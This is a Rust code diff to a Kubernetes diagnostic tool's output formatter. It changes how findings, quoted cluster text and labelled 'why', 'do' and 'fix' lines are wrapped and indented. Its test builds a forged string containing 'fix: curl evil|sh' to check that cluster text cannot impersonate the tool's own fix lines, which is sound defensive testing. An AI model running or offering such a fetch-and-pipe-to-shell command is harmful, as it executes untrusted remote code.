@@ -73,21 +73,37 @@ fn style(severity: Severity) -> (&'static str, Style) {
 fn show(text: &mut String, finding: &Finding) {
     let (mark, style) = style(finding.severity);
     let what = format!("{}: {}", finding.place, finding.what);
-    for (number, line) in wrapped(&what, COLUMNS - 4).iter().enumerate() {
-        let _ = match number {
-            0 => writeln!(text, "  {style}{mark}{style:#} {line}"),
-            _ => writeln!(text, "    {line}"),
-        };
+    let lines = wrapped(&what, COLUMNS - 4);
+    let (first, rest) = lines.split_first().map_or(("", &[][..]), |(f, r)| (f, r));
+    let _ = writeln!(text, "  {style}{mark}{style:#} {first}");
+    // Deeper than the labels, so that no text of the cluster looks like one.
+    let rest = rest.join(" ");
+    for line in wrapped(&rest, COLUMNS - 6)
+        .iter()
+        .filter(|_| !rest.is_empty())
+    {
+        let _ = writeln!(text, "      {line}");
     }
     if finding.severity == Severity::Ok {
         return;
     }
+    if let Some(quote) = &finding.quote {
+        for line in wrapped(&format!("{}:", quote.by), COLUMNS - 4) {
+            let _ = writeln!(text, "    {QUIET}{line}{QUIET:#}");
+        }
+        for line in broken(&quote.text, COLUMNS - 6) {
+            let _ = writeln!(text, "    {QUIET}|{QUIET:#} {line}");
+        }
+    }
     if let Some(why) = &finding.why {
         labelled(text, "why", why);
     }
+    if let Some(advice) = &finding.advice {
+        labelled(text, "do", advice);
+    }
     if let Some(fix) = &finding.fix {
         // In one line, so that it can be pasted.
-        let _ = writeln!(text, "    {QUIET}fix:{QUIET:#} {}", visible(fix));
+        let _ = writeln!(text, "    {QUIET}fix:{QUIET:#} {}", visible(fix.as_str()));
     }
     if let Some(page) = &finding.page {
         let _ = writeln!(text, "    {QUIET}see:{QUIET:#} {page}");
@@ -97,7 +113,11 @@ fn show(text: &mut String, finding: &Finding) {
 fn labelled(text: &mut String, label: &str, what: &str) {
     for (number, line) in wrapped(what, COLUMNS - 9).iter().enumerate() {
         let _ = match number {
-            0 => writeln!(text, "    {QUIET}{label}:{QUIET:#} {line}"),
+            0 => writeln!(
+                text,
+                "    {QUIET}{:<4}{QUIET:#} {line}",
+                format!("{label}:")
+            ),
             _ => writeln!(text, "         {line}"),
         };
     }
@@ -208,6 +228,17 @@ fn names(row: &Row) -> String {
     }
 }
 
+/// The same, and a longer word is broken: it is a stranger's.
+fn broken(text: &str, width: usize) -> Vec<String> {
+    let mut lines = Vec::new();
+    for line in wrapped(text, width) {
+        let characters: Vec<_> = line.chars().collect();
+        let parts = characters.chunks(width);
+        lines.extend(parts.map(|part| part.iter().collect::<String>()));
+    }
+    lines
+}
+
 /// The words of `text` in lines of at most `width` characters; a longer word is a line.
 fn wrapped(text: &str, width: usize) -> Vec<String> {
     let mut lines: Vec<String> = Vec::new();
@@ -222,4 +253,52 @@ fn wrapped(text: &str, width: usize) -> Vec<String> {
         }
     }
     lines
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_text_of_the_cluster_looks_like_a_line_of_the_doctors() {
+        let long = "-".repeat(76);
+        let forged = format!("{long} why: it is broken {long} fix: curl evil|sh");
+        let what = format!("pod {forged}");
+        let found = Finding::new(
+            Area::Namespaces,
+            Severity::Warning,
+            "x",
+            "namespace ci",
+            what,
+        )
+        .quote("the job itself", &forged)
+        .fix("kubectl get pods");
+        let mut text = String::new();
+        show(&mut text, &found);
+        let begins = |label: &str| {
+            let line = format!("    {QUIET}{label}:{QUIET:#}");
+            let bare = format!("    {label}:");
+            let mut lines = text.lines();
+            lines.clone().filter(|own| own.starts_with(&line)).count()
+                + lines.by_ref().filter(|own| own.starts_with(&bare)).count()
+        };
+        assert_eq!((begins("why"), begins("fix")), (0, 1), "{text}");
+        let bar = format!("    {QUIET}|{QUIET:#} ");
+        let quoted: Vec<_> = text
+            .lines()
+            .filter_map(|line| line.strip_prefix(&bar))
+            .collect();
+        assert!(quoted.len() > 2, "{text}");
+        assert!(
+            quoted
+                .iter()
+                .all(|line| line.chars().count() <= COLUMNS - 6),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn a_word_that_is_too_long_is_broken() {
+        assert_eq!(broken("a bcdefg", 3), ["a", "bcd", "efg"]);
+    }
 }
